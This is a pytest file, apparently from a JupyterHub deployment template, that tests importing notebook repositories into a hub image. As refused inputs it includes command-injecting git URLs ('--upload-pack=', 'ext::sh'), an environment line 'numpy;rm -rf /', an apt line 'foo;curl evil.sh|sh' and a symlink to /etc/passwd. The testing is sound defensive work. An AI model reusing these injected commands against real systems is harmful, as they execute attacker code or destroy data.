"""Building a new hub's image/ from a notebook repository during `copier copy`.

Every source here is a real git repository the test builds; copier fetches it
through the template's task (hooks/run.py import-source), the way a user's
`copier copy --trust --data source_repo=...` does. Each rendered image/ is then
used the way the image build uses it: repo2docker reads it, its postBuild and
start really run, dask loads the installed config.
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import dask.config
import pytest
import yaml
from conftest import (
    REPO2DOCKER_OPTIONS,
    ROOT,
    TEMPLATE_PARTS,
    check_report,
    git,
    hub_template,
    publish_template,
    render,
    skip_unless_required,
)
from copier import run_copy, run_update
from copier.errors import TaskError
from hub_cells import run_postbuild
from rattler import MatchSpec

from hub_template import load_data, url_credentials
from hub_template.git_source import FILE_CAP, TOTAL_CAP, Source, SourceError, fetch, parse_source
from hub_template.source_import import _nice_yaml, merge_dask_config, record_answers

VERSIONS = load_data("versions.yml")
HOOKS = ROOT / "hooks" / "run.py"


# --- source repositories -----------------------------------------------------------


def notebook(title: str) -> bytes:
    """A small notebook, with non-ASCII text and no final newline, to be
    compared byte for byte."""
    cell = {"cell_type": "markdown", "id": "a1", "metadata": {}, "source": [f"# {title} — °C"]}
    return json.dumps(
        {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, ensure_ascii=False
    ).encode()


def make_source(
    path: Path, files: dict[str, str | bytes], links: dict[str, str] | None = None, tag: str | None = None
) -> Path:
    """A git repository holding `files` (executable when the name is
    postBuild or start) and `links` (symlinks), committed (and tagged)."""
    path.mkdir(parents=True, exist_ok=True)
    if not (path / ".git").exists():
        git(path, "init", "-q")
    for name, content in files.items():
        target = path / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content if isinstance(content, bytes) else content.encode())
        if target.name in ("postBuild", "start"):
            target.chmod(0o755)
    for name, target in (links or {}).items():
        os.symlink(target, path / name)
    git(path, "add", "-A")
    git(path, "commit", "-q", "-m", "notebooks")
    if tag:
        git(path, "tag", "-a", tag, "-m", tag)
    return path


BINDER_SOURCE = {
    "binder/environment.yml": """\
name: esip-tech-dive
channels:
  - conda-forge
  - defaults
dependencies:
  - python=3.11.9=hab00c5b_0_cpython
  - numpy=1.26.4=py311h64a7726_0
  - xarray>=2024.1
  - dask=2026.1.0
  - pip
  - pip:
      - pystac-client==0.7.5
prefix: /home/scott/miniconda3/envs/esip-tech-dive
""",
    "binder/apt.txt": "nco\ncdo  # climate data operators\n",
    "binder/postBuild": """\
#!/bin/bash
set -e
# dask config the 2019 way (the hub installs the merged one itself)
cp .dask/config.yaml "${NB_PYTHON_PREFIX}/etc/dask/source.yaml"
echo "built by the source" > "${NB_PYTHON_PREFIX}/source-postbuild-ran"
""",
    "binder/start": """\
#!/bin/bash
export SOURCE_GREETING=hello-from-source
sed -i -e "s|WORKSPACE_ID|/user/${JUPYTERHUB_USER}/lab|g" binder/jupyterlab-workspace.json
jupyter lab workspaces import binder/jupyterlab-workspace.json \\
  --NotebookApp.base_url=user/${JUPYTERHUB_USER}
exec "$@"
""",
    "binder/jupyterlab-workspace.json": json.dumps(
        {"data": {"file-browser-filebrowser:cwd": {"path": "notebooks"}}, "metadata": {"id": "WORKSPACE_ID"}}
    ),
    "binder/runtime-notes.txt": "kept beside the configuration\n",
    ".dask/config.yaml": """\
labextension:
  factory:
    module: dask_kubernetes
    class: KubeCluster
distributed:
  scheduler:
    work-stealing: false
array:
  chunk-size: 256MiB
""",
    "notebooks/part1/intro.ipynb": notebook("Intro"),
    "notebooks/part2/deeper/analysis.ipynb": notebook("Analysis"),
    "overview.ipynb": notebook("Overview"),
    "data/stations.csv": "station,lat,lon\nA,1,2\n",
    "images/figure.png": bytes(range(256)) * 4,
    "README.md": "# ESIP tech dive\n\nNotebooks from the tech dive.\n",
    ".gitignore": "*.nc\n",
    ".gitattributes": "*.ipynb diff=jupyternotebook\n",
    ".github/workflows/ci.yml": "name: ci\n",
    ".travis.yml": "language: python\n",
}
BINDER_LINKS = {"passwd": "/etc/passwd", "outside": "../../outside", "stations.csv": "data/stations.csv"}


@pytest.fixture(scope="module")
def sources(tmp_path_factory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("sources")
    found = {"binder": make_source(base / "binder-layout", BINDER_SOURCE, BINDER_LINKS)}
    found["root"] = make_source(
        base / "root-environment",
        {
            "environment.yml": "channels: [conda-forge]\ndependencies:\n  - python=3.12\n  - geopandas=1.0\n",
            # a postBuild in another language stays a program of its own
            "postBuild": "#!/usr/bin/env python3\nimport os, pathlib\n"
            "pathlib.Path(os.environ['NB_PYTHON_PREFIX'], 'python-postbuild-ran').write_text('yes')\n",
            "analysis.ipynb": notebook("Root"),
            "README.rst": "Root layout\n===========\n",
        },
    )
    found["requirements"] = make_source(
        base / "requirements-only",
        {
            "requirements.txt": "# what the notebooks import\npystac-client>=0.7\nodc-stac==0.3.9  # loads STAC items\n-r extra-requirements.txt\n",
            "extra-requirements.txt": "planetary-computer\n",
            "stac.ipynb": notebook("STAC"),
        },
    )
    found["dockerfile"] = make_source(
        base / "dockerfile",
        {
            ".binder/Dockerfile": "FROM pangeo/pangeo-notebook:2024.01.01\n",
            ".binder/environment.yml": "dependencies:\n  - python=3.12\n  - zarr\n",
            "docker.ipynb": notebook("Docker"),
        },
    )
    sub = make_source(base / "submodule-content", {"inner.ipynb": notebook("Inner")})
    found["submodule"] = make_source(
        base / "with-submodule",
        {
            "outer.ipynb": notebook("Outer"),
            ".gitmodules": f'[submodule "vendor/inner"]\n\tpath = vendor/inner\n\turl = {sub}\n',
        },
    )
    # A gitlink, as `git submodule add` records it.
    git(
        found["submodule"],
        "update-index",
        "--add",
        "--cacheinfo",
        f"160000,{git(sub, 'rev-parse', 'HEAD')},vendor/inner",
    )
    git(found["submodule"], "commit", "-q", "-m", "add a submodule")
    history = make_source(base / "history", {"tutorial.ipynb": notebook("Version 1")}, tag="v1.0")
    found["history"] = make_source(history, {"tutorial.ipynb": notebook("Version 2"), "new.ipynb": notebook("New")})
    found["conflict"] = make_source(
        base / "conflicting-pin",
        {
            "binder/environment.yml": """\
dependencies:
  - python=3.8
  - dask-gateway=2023.1.1
  - dask-labextension=5.3
  - pip:
      - dask-gateway==2023.1.1
""",
            "old.ipynb": notebook("Old"),
        },
    )
    return found


# --- checks on a rendered image/, what the build does with it -----------------------


def repo2docker(image: Path) -> tuple[str, str]:
    """repo2docker --no-build: (the Dockerfile it would build, its log)."""
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "repo2docker",
            "--no-build",
            "--debug",
            *REPO2DOCKER_OPTIONS,
            str(image),
        ],
        capture_output=True,
        text=True,
        check=True,
    )
    return result.stdout, result.stderr


def check_image(hub: Path, tmp_path: Path, python: str) -> dict:
    """What every rendered image must pass; returns the loaded dask config."""
    image = hub / "image"
    dockerfile, log = repo2docker(image)
    assert 'env update -p ${NB_PYTHON_PREFIX} --file "binder/environment.yml"' in dockerfile  # conda buildpack
    assert f"Building conda environment for python={python}" in log
    assert "Python version unspecified" not in log
    assert "RUN ./binder/postBuild" in dockerfile
    assert 'R2D_ENTRYPOINT="${REPO_DIR}/binder/start"' in dockerfile

    env = yaml.safe_load((image / "binder" / "environment.yml").read_text())
    assert set(env) == {"channels", "dependencies"}  # no name:, no prefix:
    for dependency in env["dependencies"]:
        if isinstance(dependency, dict):
            assert list(dependency) == ["pip"]
            continue
        spec = MatchSpec(dependency)
        assert spec.build is None, dependency
    assert f"dask-gateway={VERSIONS['dask_gateway']}" in env["dependencies"]
    assert f"python={python}" in env["dependencies"]

    for script in ("postBuild", "start"):
        subprocess.run(["bash", "-n", str(image / "binder" / script)], check=True)
    start = (image / "binder" / "start").read_text()
    assert start.count('exec "$@"') == 1 and start.rstrip().endswith('exec "$@"')
    assert start.count("jupyter lab workspaces import") == 1

    prefix = tmp_path / "prefix"
    subprocess.run(
        ["bash", "binder/postBuild"],
        cwd=image,
        env={**os.environ, "NB_PYTHON_PREFIX": str(prefix)},
        check=True,
    )
    config = dask.config.collect(paths=[str(prefix / "etc" / "dask")], env={})
    assert config["labextension"]["factory"]["module"] == "dask_gateway"
    assert config["labextension"]["factory"]["class"] == "GatewayCluster"

    workspace = json.loads((image / "binder" / "jupyterlab-workspace.json").read_text())
    assert workspace["metadata"]["id"] == "default"
    return {"config": config, "prefix": prefix}


def check_copied(hub: Path, source: Path, ref: str = "HEAD") -> None:
    """The source's notebooks are in image/ byte for byte; its git metadata is not."""
    image = hub / "image"
    notebooks = git(source, "ls-tree", "-r", "--name-only", ref).splitlines()
    notebooks = [n for n in notebooks if n.endswith(".ipynb")]
    assert notebooks
    for name in notebooks:
        expected = subprocess.run(["git", "show", f"{ref}:{name}"], cwd=source, capture_output=True, check=True).stdout
        assert (image / name).read_bytes() == expected, name
    for name in (".git", ".github", ".gitattributes", ".gitmodules", ".travis.yml"):
        assert not (image / name).exists(), name
    assert (image / ".gitignore").read_text() == (ROOT / "template" / "image" / ".gitignore").read_text()


def copy_hub(template: Path, dst: Path, capfd, **data) -> tuple[Path, str]:
    """One `copier copy` with the task; returns the hub and what the task printed."""
    capfd.readouterr()
    render(template, dst, **data)
    return dst, capfd.readouterr().err


def answers(hub: Path) -> dict:
    return yaml.safe_load((hub / ".copier-answers.yml").read_text())


# --- a source with everything in binder/ ------------------------------------------


@pytest.fixture(scope="module")
def binder_hub(template_repo, sources, tmp_path_factory):
    """One copy shared by the tests below; the task's output (its stderr, which
    capfd cannot catch at module scope) goes to a file."""
    log = tmp_path_factory.mktemp("log") / "task.log"
    hub = tmp_path_factory.mktemp("federation") / "deployments" / "esip"
    with log.open("w") as out:
        saved = os.dup(2)
        os.dup2(out.fileno(), 2)
        try:
            render(template_repo, hub, source_repo=str(sources["binder"]))
        finally:
            os.dup2(saved, 2)
            os.close(saved)
    return hub, log.read_text()


def test_binder_layout_builds_the_image(binder_hub, sources, tmp_path):
    hub, output = binder_hub
    loaded = check_image(hub, tmp_path, python="3.11")
    check_copied(hub, sources["binder"])
    image = hub / "image"
    assert (image / "data" / "stations.csv").read_text() == BINDER_SOURCE["data/stations.csv"]
    assert (image / "images" / "figure.png").read_bytes() == BINDER_SOURCE["images/figure.png"]
    assert (image / "binder" / "runtime-notes.txt").is_file()
    assert not (image / "welcome.ipynb").exists()

    # the source's postBuild ran, after the hub's own dask install (once)
    assert (loaded["prefix"] / "source-postbuild-ran").read_text() == "built by the source\n"
    post_build = (image / "binder" / "postBuild").read_text()
    assert post_build.count(".dask/config.yaml") == 1
    # the source's dask settings, under the hub's
    config = loaded["config"]
    assert config["distributed"]["scheduler"]["work-stealing"] is False
    assert config["array"]["chunk-size"] == "256MiB"
    assert config["gateway"]["auth"]["type"] == "jupyterhub"
    assert config["distributed"]["dashboard"]["link"] == "{JUPYTERHUB_SERVICE_PREFIX}proxy/{port}/status"

    # the source's environment, merged into the second block
    env_text = (image / "binder" / "environment.yml").read_text()
    own = env_text.split("# The hub's own packages.")[1]
    for line in ("- numpy=1.26.4", "- xarray>=2024.1", "- pystac-client==0.7.5", "- zarr"):
        assert line in own, line
    assert "- dask=2026.1.0" in env_text.split("# The hub's own packages.")[0]
    assert "defaults" not in env_text and "prefix" not in yaml.safe_load(env_text)
    assert (image / "binder" / "apt.txt").read_text().splitlines()[1:] == ["nco", "cdo"]
    assert "binder/apt.txt now installs the source's Debian packages: nco, cdo" in output

    # provenance: the README and the answers
    commit = git(sources["binder"], "rev-parse", "HEAD")
    readme = (image / "README.md").read_text()
    assert readme.startswith(f"> Imported by hub-template from {sources['binder']} at commit `{commit}`")
    assert readme.endswith(BINDER_SOURCE["README.md"])
    assert answers(hub)["source_commit"] == commit
    assert answers(hub)["python_version"] == "3.11"
    assert "python_version is now 3.11" in output and "build string 'py311h64a7726_0' stripped" in output


def test_symlinks_out_of_the_source_are_neither_followed_nor_copied(binder_hub):
    hub, output = binder_hub
    image = hub / "image"
    assert not os.path.lexists(image / "passwd") and not os.path.lexists(image / "outside")
    assert "passwd: a symlink to /etc/passwd, outside the repository" in output
    assert "outside: a symlink to ../../outside, outside the repository" in output
    passwd = Path("/etc/passwd").read_bytes()
    assert all(passwd not in p.read_bytes() for p in image.rglob("*") if p.is_file() and not p.is_symlink())
    # a link to a file of the repository becomes a copy of it: image/ holds no link
    assert not (image / "stations.csv").is_symlink()
    assert (image / "stations.csv").read_text() == BINDER_SOURCE["data/stations.csv"]
    assert not any(p.is_symlink() for p in image.rglob("*"))
    assert "1 of them symlinks, copied as files" in output


def test_start_runs_the_sources_commands_then_the_command(binder_hub, tmp_path):
    """start as a dask worker runs it (no JUPYTERHUB_SERVICE_PREFIX, no
    JUPYTERHUB_USER): the source's export reaches the final exec, and its
    unset variables do not stop the container."""
    hub, _ = binder_hub
    image = shutil.copytree(hub / "image", tmp_path / "repo", symlinks=True)
    env = {k: v for k, v in os.environ.items() if not k.startswith("JUPYTERHUB_")}
    result = subprocess.run(
        ["bash", "binder/start", "printenv", "SOURCE_GREETING"],
        cwd=image, env={**env, "REPO_DIR": str(image)}, capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert result.stdout == "hello-from-source\n"
    start = (image / "binder" / "start").read_text()
    assert start.index("SOURCE_GREETING") < start.index("jupyter lab workspaces import --name default")


# --- other layouts ----------------------------------------------------------------


def test_root_environment_only(template_repo, sources, tmp_path, capfd):
    hub, _ = copy_hub(template_repo, tmp_path / "deployments" / "root", capfd, source_repo=str(sources["root"]))
    loaded = check_image(hub, tmp_path, python="3.12")
    check_copied(hub, sources["root"])
    image = hub / "image"
    assert not (image / "environment.yml").exists() and not (image / "postBuild").exists()  # merged
    assert (loaded["prefix"] / "python-postbuild-ran").read_text() == "yes"
    assert os.access(image / "binder" / "source-postBuild", os.X_OK)
    assert "- geopandas=1.0" in (image / "binder" / "environment.yml").read_text()
    # a README that is not markdown stays as it is; README.md says where it came from
    assert (image / "README.rst").read_text() == "Root layout\n===========\n"
    assert (image / "README.md").read_text().startswith("> Imported by hub-template from")


def test_jupyterlab_opens_the_sources_first_notebook(template_repo, sources, tmp_path, capfd):
    """With no welcome notebook of its own, the hub's workspace opens the
    source's shallowest notebook, and JupyterLab 4 imports that workspace."""
    hub, _ = copy_hub(template_repo, tmp_path / "deployments" / "root", capfd, source_repo=str(sources["root"]))
    workspace = json.loads((hub / "image" / "binder" / "jupyterlab-workspace.json").read_text())
    main = workspace["data"]["layout-restorer:data"]["main"]["dock"]["children"][0]
    assert main["widgets"] == ["notebook:hub-notebooks/analysis.ipynb"]
    assert workspace["data"]["notebook:hub-notebooks/analysis.ipynb"]["data"]["path"] == "hub-notebooks/analysis.ipynb"
    assert (hub / "image" / "analysis.ipynb").is_file()  # start copies image/ to ~/hub-notebooks
    settings = tmp_path / "lab-workspaces"
    done = subprocess.run(
        [
            str(Path(sys.executable).parent / "jupyter"),
            "lab",
            "workspaces",
            "import",
            str(hub / "image" / "binder" / "jupyterlab-workspace.json"),
        ],
        capture_output=True,
        text=True,
        env={**os.environ, "JUPYTERLAB_WORKSPACES_DIR": str(settings)},
    )
    assert done.returncode == 0, done.stderr
    (saved,) = settings.glob("*.jupyterlab-workspace")
    assert "notebook:hub-notebooks/analysis.ipynb" in json.loads(saved.read_text())["data"]


def test_requirements_txt_only(template_repo, sources, tmp_path, capfd):
    hub, _ = copy_hub(template_repo, tmp_path / "deployments" / "reqs", capfd, source_repo=str(sources["requirements"]))
    check_image(hub, tmp_path, python=VERSIONS["python_default"])
    check_copied(hub, sources["requirements"])
    env = yaml.safe_load((hub / "image" / "binder" / "environment.yml").read_text())
    assert {"pip": ["pystac-client>=0.7", "odc-stac==0.3.9", "planetary-computer"]} in env["dependencies"]
    assert "pip" in env["dependencies"]
    assert not (hub / "image" / "requirements.txt").exists()


def test_dockerfile_is_left_out_with_a_warning(template_repo, sources, tmp_path, capfd):
    hub, output = copy_hub(
        template_repo, tmp_path / "deployments" / "docker", capfd, source_repo=str(sources["dockerfile"])
    )
    check_image(hub, tmp_path, python="3.12")
    check_copied(hub, sources["dockerfile"])
    assert not (hub / "image" / "binder" / "Dockerfile").exists()
    assert "warning: .binder/Dockerfile left out" in output and "source_keep_dockerfile=true" in output
    assert "- zarr" in (hub / "image" / "binder" / "environment.yml").read_text()  # from .binder/
    assert not (hub / "image" / ".binder").exists()


def test_dockerfile_kept_on_request(template_repo, sources, tmp_path, capfd):
    hub, output = copy_hub(
        template_repo, tmp_path / "deployments" / "docker", capfd,
        source_repo=str(sources["dockerfile"]), source_keep_dockerfile=True,
    )  # fmt: skip
    assert (hub / "image" / "binder" / "Dockerfile").read_text() == "FROM pangeo/pangeo-notebook:2024.01.01\n"
    dockerfile, _ = repo2docker(hub / "image")
    assert dockerfile.startswith("FROM pangeo/pangeo-notebook:2024.01.01")  # repo2docker's Docker buildpack
    assert "repo2docker now builds only from it" in output


def test_submodule_is_reported_not_imported(template_repo, sources, tmp_path, capfd):
    hub, output = copy_hub(
        template_repo, tmp_path / "deployments" / "sub", capfd, source_repo=str(sources["submodule"])
    )
    check_image(hub, tmp_path, python=VERSIONS["python_default"])
    check_copied(hub, sources["submodule"])
    assert not (hub / "image" / "vendor").exists()
    assert "vendor/inner/: a git submodule, not imported" in output


@pytest.mark.parametrize("kind", ["tag", "commit", "short commit"])
def test_source_ref_tag_or_commit(kind, template_repo, sources, tmp_path, capfd):
    source = sources["history"]
    first = git(source, "rev-list", "--max-parents=0", "HEAD")
    ref = {"tag": "v1.0", "commit": first, "short commit": first[:8]}[kind]
    hub, _ = copy_hub(
        template_repo,
        tmp_path / "deployments" / "hist",
        capfd,
        source_repo=f"file://{source}",
        source_ref=ref,
    )
    check_image(hub, tmp_path, python=VERSIONS["python_default"])
    check_copied(hub, source, ref=first)
    assert not (hub / "image" / "new.ipynb").exists()  # added after v1.0
    assert answers(hub)["source_commit"] == first
    assert answers(hub)["source_ref"] == ref


def test_conflicting_pins_warn_and_keep_the_hubs(template_repo, sources, tmp_path, capfd):
    hub, output = copy_hub(template_repo, tmp_path / "deployments" / "old", capfd, source_repo=str(sources["conflict"]))
    check_image(hub, tmp_path, python=VERSIONS["python_default"])
    check_copied(hub, sources["conflict"])
    gateway = VERSIONS["dask_gateway"]
    assert f"pins dask-gateway=2023.1.1, but the hub needs dask-gateway={gateway}" in output
    assert "installs dask-gateway==2023.1.1 with pip" in output
    assert "pins dask-labextension=5.3, but the hub needs dask-labextension>=7" in output
    assert "asks for python=3.8, but the hub supports Python" in output
    env_text = (hub / "image" / "binder" / "environment.yml").read_text()
    assert "2023.1.1" not in env_text and "5.3" not in env_text and "pip:" not in env_text


def test_conda_env_export_renders_a_clean_environment(template_repo, tmp_path, capfd, monkeypatch):
    """A relative environment_file is found from where copier was run."""
    work = tmp_path / "work"
    work.mkdir()
    (work / "exported.yml").write_text(
        "name: analysis\n"
        "channels:\n  - conda-forge\n  - defaults\n"
        "dependencies:\n"
        "  - _libgcc_mutex=0.1=conda_forge\n"
        "  - python=3.12.4=h194c7f8_0_cpython\n"
        "  - numpy=1.26.4=py312heda63a1_0\n"
        "  - xarray=2024.6.0=pyhd8ed1ab_1\n"
        "  - pip=24.0=pyhd8ed1ab_0\n"
        "  - pip:\n      - odc-stac==0.3.9\n"
        "prefix: /Users/me/miniforge3/envs/analysis\n"
    )
    monkeypatch.chdir(work)
    hub, _ = copy_hub(template_repo, tmp_path / "deployments" / "exported", capfd, environment_file="exported.yml")
    check_image(hub, tmp_path, python="3.12")
    text = (hub / "image" / "binder" / "environment.yml").read_text()
    for exported in (
        "/Users/me",
        "name: analysis",
        "heda63a1",
        "h194c7f8",
        "pyhd8ed1ab",
        "=conda_forge",
        "defaults",
    ):
        assert exported not in text, exported
    env = yaml.safe_load(text)
    for spec in (
        "_libgcc_mutex=0.1",
        "numpy=1.26.4",
        "xarray=2024.6.0",
        "pip=24.0",
        {"pip": ["odc-stac==0.3.9"]},
    ):
        assert spec in env["dependencies"], spec
    assert (hub / "image" / "welcome.ipynb").is_file()  # no source repository: the starter notebook stays
    assert "| Environment imported from | `exported.yml` |" in (hub / "README.md").read_text()
    assert "source_commit" in answers(hub) and answers(hub)["source_commit"] == ""


# --- bad input: one message, nothing left behind ----------------------------------------


def snapshot(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


@pytest.fixture
def isolated(tmp_path, monkeypatch):
    """A place for a copy that must fail: its own temporary directory, which
    must stay empty, and a marker file no command may create."""
    temp = tmp_path / "tmp"
    temp.mkdir()
    monkeypatch.setenv("TMPDIR", str(temp))
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    (tmp_path / "deployments").mkdir()
    monkeypatch.chdir(tmp_path)  # where the user ran copier
    return tmp_path


def failed_copy(template: Path, root: Path, capfd, error=TaskError, **data) -> str:
    """A copy that fails, leaving nothing but the kept answers of a failed
    import (removed here unless ``error`` is None: a TaskError whose kept
    answers the caller uses)."""
    keep = error is None
    error = error or TaskError
    dst = root / "deployments" / "charlie"
    before = snapshot(root)
    capfd.readouterr()
    with pytest.raises(error):
        render(template, dst, **data)
    output = capfd.readouterr().err
    assert not dst.exists()
    kept = root / "deployments" / "charlie.answers.yml"
    # Nothing anywhere else, temporary files included; a failed import keeps the answers.
    assert snapshot(root) == before | ({"deployments/charlie.answers.yml"} if error is TaskError else set())
    assert not (root / "x").exists()
    if error is TaskError:
        assert_answers_kept(kept, output, data)
        if not keep:
            kept.unlink()
    return output


def assert_answers_kept(kept: Path, output: str, data: dict) -> None:
    """The answers copier removed with the hub are in the file the error names,
    with the command that copies again from it."""
    answers = yaml.safe_load(kept.read_text())
    assert answers["hub_name"] == "charlie" and "cloud_provider" in answers
    assert not any(key.startswith("_") for key in answers)
    for key, value in data.items():
        # Amounts are answered as typed ("7", "4GB"): compared as text.
        assert str(answers[key]) == (url_credentials.strip(str(value)) if key == "source_repo" else str(value))
    assert "Your answers are in deployments/charlie.answers.yml: fix it, then run" in output
    assert "copier copy --trust --data-file deployments/charlie.answers.yml" in output


@pytest.mark.parametrize(
    "url", ["--upload-pack=touch {root}/x", "ext::sh -c touch% {root}/x", "ext::sh%20-c%20touch%20{root}/x"]
)
def test_hostile_urls_are_refused_by_the_question(url, template_repo, isolated, capfd):
    failed_copy(template_repo, isolated, capfd, error=ValueError, source_repo=url.format(root=isolated))


def test_unreachable_url(template_repo, isolated, capfd):
    output = failed_copy(template_repo, isolated, capfd, source_repo="https://127.0.0.1:9/notebooks.git")
    assert "hub-template could not build the image: Could not fetch https://127.0.0.1:9/notebooks.git" in output


def test_missing_local_repository(template_repo, isolated, capfd):
    output = failed_copy(template_repo, isolated, capfd, source_repo=f"file://{isolated}/nowhere")
    assert f"there is no directory {isolated}/nowhere" in output


def test_a_failed_import_keeps_the_answers_and_the_printed_command_copies_again(
    template_repo, sources, isolated, capfd
):
    output = failed_copy(template_repo, isolated, capfd, error=None, source_repo=f"{isolated}/nowhere", max_users=7)
    kept = isolated / "deployments" / "charlie.answers.yml"
    kept.write_text(kept.read_text().replace(f"{isolated}/nowhere", str(sources["binder"])))
    command = output.split("fix it, then run\n", 1)[1].splitlines()[0].split()
    assert command[:5] == ["copier", "copy", "--trust", "--data-file", "deployments/charlie.answers.yml"]
    done = subprocess.run(
        [str(Path(sys.executable).parent / "copier"), *command[1:], "--defaults"],
        capture_output=True,
        text=True,
        cwd=isolated,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert answers(isolated / "deployments" / "charlie")["max_users"] == "7"
    assert (isolated / "deployments" / "charlie" / "image" / "binder" / "environment.yml").is_file()


def test_missing_ref(template_repo, sources, isolated, capfd):
    output = failed_copy(template_repo, isolated, capfd, source_repo=str(sources["history"]), source_ref="v9.9")
    assert f"{sources['history']} has no branch or tag 'v9.9' (source_ref)" in output
    output = failed_copy(template_repo, isolated, capfd, source_repo=str(sources["history"]), source_ref="deadbeef")
    assert "has no commit 'deadbeef'" in output


def test_oversized_file(template_repo, isolated, capfd, tmp_path_factory):
    source = tmp_path_factory.mktemp("big") / "repo"
    source.mkdir()
    # sparse: quick to make, and git stores the zeros in a few kilobytes
    subprocess.run(["truncate", "-s", str(FILE_CAP + 10 * 2**20), str(source / "model-output.nc")], check=True)
    make_source(source, {"analysis.ipynb": notebook("Big")})
    output = failed_copy(template_repo, isolated, capfd, source_repo=str(source))
    assert "model-output.nc in" in output and "is 60 MB; files in the image may be at most 50 MB" in output
    assert "Large data belongs in object storage (the hub's scratch bucket, gs://charlie-scratch)" in output


def test_oversized_repository(template_repo, isolated, capfd, tmp_path_factory):
    source = tmp_path_factory.mktemp("many") / "repo"
    source.mkdir()
    for index in range(5):  # each under the file cap, all above the total cap
        subprocess.run(["truncate", "-s", str(TOTAL_CAP // 4 - 2**20), str(source / f"part{index}.zarr")], check=True)
    make_source(source, {"analysis.ipynb": notebook("Many")})
    output = failed_copy(template_repo, isolated, capfd, source_repo=str(source))
    assert "add up to 245 MB; the image takes at most 200 MB" in output


def test_invalid_environment_names_the_line(template_repo, isolated, capfd, tmp_path_factory):
    source = make_source(
        tmp_path_factory.mktemp("bad") / "repo",
        {"environment.yml": "dependencies:\n  - xarray\n  - numpy;rm -rf /\n", "a.ipynb": notebook("A")},
    )
    output = failed_copy(template_repo, isolated, capfd, source_repo=str(source))
    assert "environment.yml of" in output and "line 3: 'numpy;rm -rf /' is not a conda package spec" in output


def test_bad_apt_line(template_repo, isolated, capfd, tmp_path_factory):
    source = make_source(
        tmp_path_factory.mktemp("apt") / "repo",
        {"apt.txt": "nco\nfoo;curl evil.sh|sh\n", "a.ipynb": notebook("A")},
    )
    output = failed_copy(template_repo, isolated, capfd, source_repo=str(source))
    assert "apt.txt of" in output and "line 2: 'foo;curl evil.sh|sh' is not a Debian package name" in output


def test_hostile_file_name(template_repo, isolated, capfd, tmp_path_factory):
    source = make_source(tmp_path_factory.mktemp("names") / "repo", {"notes\x1b[2J.ipynb": notebook("Escape")})
    output = failed_copy(template_repo, isolated, capfd, source_repo=str(source))
    assert "has a file name hub-template refuses to write: 'notes\\x1b[2J.ipynb'" in output


def test_binder_and_dot_binder(template_repo, isolated, capfd, tmp_path_factory):
    source = make_source(
        tmp_path_factory.mktemp("both") / "repo",
        {"binder/apt.txt": "nco\n", ".binder/apt.txt": "cdo\n", "a.ipynb": notebook("A")},
    )
    output = failed_copy(template_repo, isolated, capfd, source_repo=str(source))
    assert "has both binder/ and .binder/, which repo2docker refuses" in output


def test_start_in_another_language(template_repo, isolated, capfd, tmp_path_factory):
    source = make_source(
        tmp_path_factory.mktemp("pystart") / "repo",
        {"start": "#!/usr/bin/env python3\nimport os, sys\nos.execvp(sys.argv[1], sys.argv[1:])\n"},
    )
    output = failed_copy(template_repo, isolated, capfd, source_repo=str(source))
    assert "runs with '/usr/bin/env python3'; hub-template merges shell start scripts only" in output


def test_missing_environment_file(template_repo, isolated, capfd):
    output = failed_copy(template_repo, isolated, capfd, environment_file="no-such-env.yml")
    assert "environment_file 'no-such-env.yml': there is no file" in output


def copier_copy_cli(template: Path, dst: Path, **data) -> subprocess.CompletedProcess:
    """`copier copy --trust --defaults --data ...`, the command a user types."""
    args = [arg for name, value in data.items() for arg in ("--data", f"{name}={value}")]
    copier = Path(sys.executable).parent / "copier"
    return subprocess.run(
        [str(copier), "copy", "--trust", "--defaults", *args, str(template), str(dst)], capture_output=True, text=True
    )


def test_a_failed_import_into_an_existing_empty_folder_leaves_it_empty(template_repo, sources, isolated):
    """copier removes only a folder it made: the task empties the one that
    was there, since it held nothing."""
    dst = isolated / "deployments" / "charlie"
    dst.mkdir()
    before = snapshot(isolated)

    done = copier_copy_cli(template_repo, dst, source_repo=str(sources["history"]), source_ref="v9.9")

    assert done.returncode != 0
    assert f"{sources['history']} has no branch or tag 'v9.9' (source_ref)" in done.stderr
    assert "Traceback" not in done.stderr
    assert dst.is_dir() and not any(dst.iterdir())
    # Nothing else changed, but the answers kept for the next try.
    assert snapshot(isolated) == before | {"deployments/charlie.answers.yml"}
    assert yaml.safe_load((isolated / "deployments" / "charlie.answers.yml").read_text())["source_ref"] == "v9.9"


@pytest.mark.parametrize("where", ["notes.txt", ".notes", "a/b/c/notes.txt", "keep/"])
def test_a_failed_import_into_a_folder_that_held_anything_keeps_it_all(template_repo, isolated, where):
    """A file seen before the copy, or one (or a folder) older than the copy
    even where copier did not look, keeps the folder as copier left it."""
    dst = isolated / "deployments" / "charlie"
    mine = dst / where
    if where.endswith("/"):
        mine.mkdir(parents=True)
    else:
        mine.parent.mkdir(parents=True)
        mine.write_text("mine\n")
    older = os.stat(mine).st_ctime
    while time.time() < older + 1:  # the copy looks a second later at least: nothing it writes is as old
        time.sleep(0.05)

    done = copier_copy_cli(template_repo, dst, source_repo=f"file://{isolated}/nowhere")

    assert done.returncode != 0 and "Traceback" not in done.stderr
    assert f"there is no directory {isolated}/nowhere" in done.stderr
    assert "charlie/ held files before this copy: copier's files are left in it." in done.stderr
    assert mine.is_dir() if where.endswith("/") else mine.read_text() == "mine\n"
    assert (dst / ".copier-answers.yml").is_file()  # copier's, left for the operator to judge


# The URL checks again, past copier's question: hooks/run.py on a hub whose
# answers file was written by hand.


@pytest.fixture
def plain_hub(template_repo, tmp_path) -> Path:
    return render(template_repo, tmp_path / "deployments" / "plain")


@pytest.mark.parametrize(
    "url, message",
    [
        ("--upload-pack=touch {root}/x", "is not allowed"),
        ("--upload-pack=touch%20{root}/x", "looks like a git option"),
        ("ext::sh -c touch% {root}/x", "is not allowed"),
        ("ext::sh%20-c%20touch%25%20{root}/x", "names a git transport"),
        ("fd::3", "names a git transport"),
        ("git://example.org/repo.git", "uses git://, which is not allowed (use https://)"),
        ("http://example.org/repo.git", "uses http://, which is not allowed (use https://)"),
